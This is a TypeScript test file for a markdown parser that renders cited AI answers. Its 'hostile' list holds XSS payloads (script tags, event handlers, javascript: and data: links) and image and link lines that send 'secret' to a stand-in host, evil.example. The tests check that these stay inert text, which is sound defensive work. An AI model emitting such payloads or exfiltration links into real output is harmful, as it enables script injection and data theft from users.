// The reading of answers: markdown to a plain tree, whole and while it grows, friendly and hostile.
import type { Citation } from "@pagewise/sdk/contract";
import { expect, test } from "vitest";
import { parseBlocks } from "../answer/blocks.ts";
import { createAnswerParser } from "../answer/incremental.ts";
import { parseInline } from "../answer/inline.ts";
import { shortNames } from "../answer/short-names.ts";
import { captionOf, withOneMark } from "../answer/table-marks.ts";
import { type Block, type Inline, plainBlocks, plainText, splitLines } from "../answer/tree.ts";
import { endsIn } from "../answer/unsupported.ts";

const parse = (text: string): Block[] => parseBlocks(splitLines(text), { growing: false, depth: 0 });
const inline = (text: string, growing = false): Inline[] => parseInline([{ text, at: 0 }], growing);

/** A short picture of a tree: `p(text, strong(text))`. */
function sketch(blocks: readonly Block[]): string {
  return blocks.map(sketchBlock).join(" ");
}

function sketchBlock(block: Block): string {
  switch (block.kind) {
    case "paragraph":
      return `p(${sketchInline(block.content)})`;
    case "heading":
      return `h${block.level}(${sketchInline(block.content)})`;
    case "code":
      return `code:${block.language}(${block.text})`;
    case "quote":
      return `quote(${sketch(block.blocks)})`;
    case "list": {
      const name = block.ordered ? `ol${block.first}` : "ul";
      return `${name}${block.tight ? "" : " loose"}(${block.items.map((item) => `[${sketch(item.blocks)}]`).join("")})`;
    }
    case "table": {
      const rows = [block.head, ...block.rows].map((row) => row.map(sketchInline).join("|"));
      return `table ${block.aligns.map((align) => align?.[0] ?? "-").join("")}(${rows.join("/")})`;
    }
    case "rule":
      return "rule";
  }
}

function sketchInline(nodes: readonly Inline[]): string {
  return nodes
    .map((node) => {
      if (node.kind === "text") return node.text;
      if (node.kind === "break") return "⏎";
      if (node.kind === "citations") return `{${node.indexes}}`;
      if (node.kind === "code") return `\`${node.text}\``;
      return `${node.kind}(${sketchInline(node.children)})`;
    })
    .join("");
}

test.each([
  ["plain", "Two lines\nof one paragraph.\n\nAnother.", "p(Two lines of one paragraph.) p(Another.)"],
  ["headings", "# One\n### Three ###\n#No heading", "h1(One) h3(Three) p(#No heading)"],
  [
    "emphasis",
    "**bold** *it* _it_ ***both*** ~~gone~~",
    "p(strong(bold) emphasis(it) emphasis(it) strong(emphasis(both)) struck(gone))",
  ],
  ["no emphasis", "2 * 3 * 4, 2*3*4, snake_case_name, a ** b", "p(2 * 3 * 4, 2*3*4, snake_case_name, a ** b)"],
  ["emphasis without spaces", "这是**重点。**文字", "p(这是strong(重点。)文字)"],
  ["crossed marks", "**a *b** c*", "p(strong(a *b) c*)"],
  ["code", "`a*b*` and `` a`b `` and `open", "p(`a*b*` and `a`b` and `open)"],
  ["escapes", "\\*not\\* \\[1] \\x", "p(*not* [1] \\x)"],
  ["breaks", "one  \ntwo\\\nthree", "p(one⏎two⏎three)"],
  ["tight list", "- a\n- **b**\n  more\n- c", "ul([p(a)][p(strong(b) more)][p(c)])"],
  ["loose list", "1. a\n\n2. b\n\n   second", "ol1 loose([p(a)][p(b) p(second)])"],
  ["a list from 3", "3) a\n4) b", "ol3([p(a)][p(b)])"],
  ["nested lists", "- a\n  - b\n    - c\n- d", "ul([p(a) ul([p(b) ul([p(c)])])][p(d)])"],
  ["a nested list with too little indent", "1. a\n  - b\n2. c", "ol1([p(a) ul([p(b)])][p(c)])"],
  ["a year is no item", "It was in\n1984. A year.", "p(It was in 1984. A year.)"],
  ["a list after a paragraph", "Three things:\n- a\n- b", "p(Three things:) ul([p(a)][p(b)])"],
  ["a list, then a paragraph", "- a\n\nAfter", "ul([p(a)]) p(After)"],
  ["quote", "> one\n> **two**\n>\n> - x\n\nafter", "quote(p(one strong(two)) ul([p(x)])) p(after)"],
  ["fence", "```js\na\n\n  b\n```\nafter", "code:js(a\n\n  b) p(after)"],
  ["open fence", "~~~\na\n```", "code:(a\n```)"],
  [
    "table",
    "| Name | 2024 |\n|---|---:|\n| a\\|b | 1 |\n| `x|y` | 2 |\n\nafter",
    "table -e(Name|2024/a|b|1/`x|y`|2) p(after)",
  ],
  [
    "figures are set to the end under names in the first row",
    "||Full year||\n|-|-|-|\n|$|2022|Reported|\n|x|9|1.3%|",
    "table -ee(|Full year|/$|2022|Reported/x|9|1.3%)",
  ],
  ["a name beneath figures is none of theirs", "|a|b|\n|-|-|\n|x|9|\n|y|blue|", "table --(a|b/x|9/y|blue)"],
  ["figures are set to the end", "|a|b|c|\n|-|-|-|\n|x|1,640 t|−32.4 %|", "table -ee(a|b|c/x|1,640 t|−32.4 %)"],
  ["a table after a line", "Here:\n|a|b|\n|-|-|\n|1|2|", "p(Here:) table ee(a|b/1|2)"],
  ["no table", "a | b\n--- | --- | ---", "p(a | b --- | --- | ---)"],
  ["rules", "a\n\n---\n***\nb", "p(a) rule rule p(b)"],
  ["citations", "So.[1] And [2][3]. [1, 2] [4", "p(So.{1} And{2,3}.{1,2} [4)"],
  ["citation before an address", "x[1](https://a.b)", "p(x{1}(https://a.b))"],
  ["no link", "[the **site**](https://a.b/c?d) <https://a.b>", "p([the strong(site)](https://a.b/c?d) <https://a.b>)"],
  ["no bare link", "(see https://a.b/c_d_e[1].)", "p((see https://a.b/c_d_e{1}.))"],
  ["no picture", "![alt](https://a.b/x.png)", "p(![alt](https://a.b/x.png))"],
])("%s", (_name, text, expected) => {
  expect(sketch(parse(text))).toBe(expected);
});

const hostile = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>1</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import url(//evil.example)</style>",
  "![x](https://evil.example/p.png?d=secret)",
  "[x](https://evil.example/?d=secret) https://evil.example www.evil.example",
  "[x][y]",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example)",
  "[x](\u0001javascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](https://user:pass@evil.example)",
  "[x](mailto:a@b.c?body=secret)",
  "[x](blob:https://a.b/1)",
  "<javascript:alert(1)>",
  "&lt;script&gt; &#x6a;avascript:",
  "{{constructor.constructor('alert(1)')()}}",
  "\u202Eevil\u202C \u0000 \uFEFF",
];

test.each(hostile)("stays text: %j", (text) => {
  const blocks = parse(text);
  expect(JSON.stringify(blocks)).not.toContain('"href"');
  expect(plainBlocks(blocks)).toBe(text);
});

test("what no citation supports ends in one leaf, behind the marks that close it", () => {
  const ends = (text: string, ...ranges: [number, number][]) => {
    const [block] = parse(text);
    const cells = block?.kind === "table" ? block.rows.flat() : [(block as { content: Inline[] }).content];
    return cells.map((nodes) => [...endsIn(nodes, ranges)].map(([leaf, to]) => `${leaf.text}@${to}`));
  };
  expect(ends("One. Two lies. Three.", [5, 14])).toEqual([["One. Two lies. Three.@14"]]);
  expect(ends("**All of it.** [1] Two.", [2, 18])).toEqual([[" [1]@18"]]);
  expect(ends("A. ***Bold*** `x`**.**", [3, 22])).toEqual([[".@22"]]);
  expect(ends("One lies. Two too.", [0, 9], [10, 18])).toEqual([["One lies. Two too.@9,18"]]);
  expect(ends("| a | b |\n|---|---|\n| one | 2 [1] |", [22, 36])).toEqual([[], [" [1]@36"]]);
  expect(ends("Nothing here.", [40, 50])).toEqual([[]]);
});

test("a table of one source has one citation, at its end or in its caption", () => {
  const rows = "|  | Six months |  [1] |\n|---|---|---|\n|  | 2023 | 2022 [1] |\n| Sales | 5 | 6 [1] |";
  const shown = (text: string, ...unsupported: [number, number][]) => {
    const blocks = parse(text);
    const at = blocks.findIndex(({ kind }) => kind === "table");
    const [before, table] = [blocks[at - 1], blocks[at] as Extract<Block, { kind: "table" }>];
    const folded = withOneMark(table, before, unsupported);
    const caption = before?.kind === "paragraph" ? sketchInline([...captionOf(before, unsupported)]) : null;
    return { caption, table: sketch([folded.table]), mark: folded.mark?.indexes ?? null };
  };
  const bare = sketch(parse(rows.replaceAll(" [1]", "")));
  expect(shown(rows)).toEqual({ caption: null, table: bare, mark: [1] });
  expect(shown(`Earnings [1] in millions [1]\n\n${rows}`)).toEqual({
    caption: "Earnings · in millions{1}",
    table: bare,
    mark: null,
  });
  expect(shown(`Of others [2]\n\n${rows}`)).toMatchObject({ table: bare, mark: [1] });
  for (const kept of [rows.replace("2022 [1]", "2022 [2]"), rows.replace("6 [1]", "6")])
    expect(shown(kept)).toMatchObject({ table: sketch(parse(kept)), mark: null });
  expect(shown(rows, [rows.length - 9, rows.length])).toMatchObject({ table: sketch(parse(rows)), mark: null });
});

test("names of documents are short, and told from each other", () => {
  const names = (...titles: string[]) => [
    ...shortNames(titles.map((title, at) => ({ document_id: `${at}`, title }) as Citation)).values(),
  ];
  expect(names("Annual Report")).toEqual([]);
  expect(names("Annual Report", "Owner’s manual")).toEqual(["Annual Report", "Owner’s manual"]);
  expect(names("Skerry Line, Annual Report and Accounts of 2025", "Manual")).toEqual([
    "Skerry Line, Annual…",
    "Manual",
  ]);
  expect(names("Skerry Line, Annual Report 2025", "Skerry Line, Annual Report 2024")).toEqual([
    "Skerry Line… 2025",
    "Skerry Line… 2024",
  ]);
  expect(names("Bylaws of the Harbour of Hallay, part one", "Bylaws of the Harbour of Hallay, part two")).toEqual([
    "Bylaws of the… one",
    "Bylaws of the… two",
  ]);
  expect(names(`${"a".repeat(40)}1`, `${"a".repeat(40)}2`).map((name) => name.at(-1))).toEqual(["1", "2"]);
  expect(names("Same", "Same")).toEqual(["Same", "Same"]);
});

test("text knows its place in the source", () => {
  const source = "# A *b*\n\n- one **two**\n  three[1]\n\n> q \\* `c`\n\n| a | b |\n|---|---|\n| x | *y* |";
  const check = (value: unknown): void => {
    if (typeof value !== "object" || value === null) return;
    if ("at" in value && "text" in value) {
      const { at, text } = value as { at: number; text: string };
      const there = source.slice(at, at + text.length);
      expect(there === "\n" ? " " : there).toBe(text);
    }
    for (const part of Object.values(value)) check(part);
  };
  check(parse(source));
});

const long = [
  "**Mostly because** the two ships now use shore power.[1]",
  "Three things add up:\n- **Hybrid drive** saved 1,640 tonnes.[1]\n- A slower *timetable* saved `405` t [2][3]\n  - nested [4, 1]\n- The price",
  "| | 2024 | 2025 |\n|---|---:|---:|\n| Crossings | 11,204 | 11,962 |\n| Gas oil | 6,310 | 4,265 |",
  "```ts\nconst a = `x`;\n\n// [1] **no**\n```",
  "1. one\n\n2. two\n\n   with a paragraph\n\n- another list\n\n-\n> a quote\n> goes on",
  "### Heading\nSee [the page](https://a.b/c_(d)) and https://x.example/y.\n---\n***\nEnd 12. 3",
].join("\n\n");

test("read at every cut, the answer ends as the same tree, and settled blocks stay the same objects", () => {
  const whole = parse(long);
  const parser = createAnswerParser();
  let before: readonly Block[] = [];
  for (let end = 0; end <= long.length; end += 1) {
    const blocks = parser.read(long.slice(0, end), true);
    for (let i = 0; i < before.length - 3; i += 1) expect(blocks[i]).toBe(before[i]);
    before = blocks;
  }
  const last = parser.read(long, false);
  expect(last).toEqual(whole);
});

test("a random mixture of marks, in random pieces, ends as the same tree", () => {
  const pieces = ["*", "**", "_", "`", "```\n", "[1]", "[", "](https://a.b)", "\n", "\n\n", "- ", "1. ", "> ", "  "];
  const words = ["word", "|a|b|", "|-|-|", "# ", "---", "~~", "\\", "a_b", "8", "<b>", "   x", "\n- y"];
  let seed = 7;
  const random = (below: number) => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return Math.floor((seed / 2_147_483_648) * below);
  };
  const all = [...pieces, ...words];
  for (let round = 0; round < 400; round += 1) {
    let text = "";
    const parser = createAnswerParser();
    for (let i = 0; i < 40; i += 1) {
      text += all[random(all.length)];
      parser.read(text, true);
    }
    expect(parser.read(text, false), JSON.stringify(text)).toEqual(parse(text));
  }
});

test("a citation cut anywhere is never shown by half", () => {
  const text = "It saved fuel.[12] More [3][4, 5] follows.";
  for (let cut = 0; cut <= text.length; cut += 1) {
    const shown = plainBlocks(createAnswerParser().read(text.slice(0, cut), true));
    expect(shown.replace(/ ?\[[\d, ]+\]/g, "")).not.toMatch(/[[\]]/);
  }
  const parser = createAnswerParser();
  for (let cut = 0; cut <= text.length; cut += 1) parser.read(text.slice(0, cut), true);
  expect(sketch(parser.read(text, false))).toBe("p(It saved fuel.{12} More{3,4,5} follows.)");
});

test("a shortened answer is read anew", () => {
  const parser = createAnswerParser();
  parser.read(long, true);
  expect(parser.read(long.slice(0, 120), false)).toEqual(parse(long.slice(0, 120)));
});

test("marks near the end of growing text look as they will when closed", () => {
  const parser = createAnswerParser();
  expect(sketch(parser.read("a **bo", true))).toBe("p(a strong(bo))");
  expect(sketch(parser.read("a **bold*", true))).toBe("p(a strong(bold))");
  expect(sketch(parser.read("a **bold** `co", true))).toBe("p(a strong(bold) `co`)");
  expect(sketch(parser.read("a **bold** `code` | x\n-", true))).toBe("p(a strong(bold) `code` | x)");
  expect(sketch(createAnswerParser().read("| a | b |\n|--", true))).toBe("");
});

test.each([
  "*",
  "[",
  "|",
  "`",
  "_",
  "](",
  "[a](",
  ">",
  "- ",
  "#",
  "![",
  "~~",
  "\n",
  "|-",
  "<",
  "http://",
  "**a",
  "[1",
  " * ",
])("100,000 of %j take linear time", (piece) => {
  const text = `x ${piece.repeat(Math.ceil(100_000 / piece.length))}`;
  const started = performance.now();
  const blocks = parse(text);
  const parser = createAnswerParser();
  parser.read(text, true);
  expect(performance.now() - started).toBeLessThan(1_500);
  // Not toBe on the text: its report of 100,000 characters helps nobody.
  if (["*", "[", "_", "<", "~~", "`", "|", "]("].includes(piece)) expect(plainBlocks(blocks) === text).toBe(true);
});

test("mixed hostile input takes linear time", () => {
  for (const text of [
    Array.from({ length: 2_000 }, (_, i) => `${"`".repeat((i % 60) + 1)}a`).join(""),
    Array.from({ length: 5_000 }, (_, i) => `${" ".repeat(i % 40)}- x`).join("\n"),
    `| ${"a | ".repeat(25_000)}\n|${"-|".repeat(25_000)}`,
    `# ${" #".repeat(50_000)} x`,
    `${"> ".repeat(50_000)}x`,
    `- ${"- ".repeat(50_000)}x`,
    `*${"a_".repeat(50_000)}*`,
  ]) {
    const started = performance.now();
    plainBlocks(parse(text));
    expect(performance.now() - started).toBeLessThan(1_500);
  }
  expect(plainText(inline("x"))).toBe("x");
});
